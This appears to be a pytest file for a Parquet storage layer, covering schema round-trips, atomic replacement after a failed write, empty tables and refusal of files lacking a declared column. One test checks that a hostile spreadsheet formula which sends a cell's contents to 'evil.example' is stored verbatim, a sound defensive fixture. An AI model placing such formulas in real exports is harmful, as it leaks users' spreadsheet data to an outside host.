"""Parquet written with the explicit schema, read back with it, atomically replaced."""
from __future__ import annotations

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from store.parquet import read_parquet, write_parquet
from store.tables import ARROW_SCHEMAS, TABLES, documents_to_arrow
from tests.outputs.documents import corpus, empty_document


def test_every_table_round_trips_with_its_schema(tmp_path):
    tables = documents_to_arrow(corpus())
    for name in TABLES:
        path = tmp_path / f"{name}.parquet"
        assert write_parquet(name, tables[name], path) == tables[name].num_rows
        assert pq.read_schema(path).equals(ARROW_SCHEMAS[name])  # the file itself carries the types
        back = read_parquet(name, path)
        assert back.equals(tables[name]), name


def test_hostile_text_is_kept_exactly(tmp_path):
    measures = documents_to_arrow(corpus())["measures"]
    write_parquet("measures", measures, tmp_path / "m.parquet")
    texts = read_parquet("measures", tmp_path / "m.parquet")["text"].to_pylist()
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Басу")' in texts and "-5" in texts


def test_zero_rows_keep_the_schema(tmp_path):
    empty = documents_to_arrow([empty_document()])["deadlines"]
    write_parquet("deadlines", empty, tmp_path / "d.parquet")
    back = read_parquet("deadlines", tmp_path / "d.parquet")
    assert back.num_rows == 0 and back.schema.equals(ARROW_SCHEMAS["deadlines"])


def test_a_failed_write_leaves_the_previous_file(tmp_path):
    tables = documents_to_arrow(corpus())
    path = tmp_path / "plans.parquet"
    write_parquet("plans", tables["plans"], path)
    before = path.read_bytes()
    column = tables["plans"].schema.get_field_index("ordinal")
    wrong = tables["plans"].set_column(column, "ordinal", pa.array(["x"] * tables["plans"].num_rows))
    with pytest.raises(pa.ArrowInvalid):
        write_parquet("plans", wrong, path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["plans.parquet"]  # no temp file left


def test_a_file_lacking_a_declared_column_is_refused(tmp_path):
    plans = documents_to_arrow(corpus())["plans"].drop_columns(["glossary"])
    pq.write_table(plans, tmp_path / "old.parquet")
    with pytest.raises(pa.ArrowInvalid, match="glossary"):
        read_parquet("plans", tmp_path / "old.parquet")
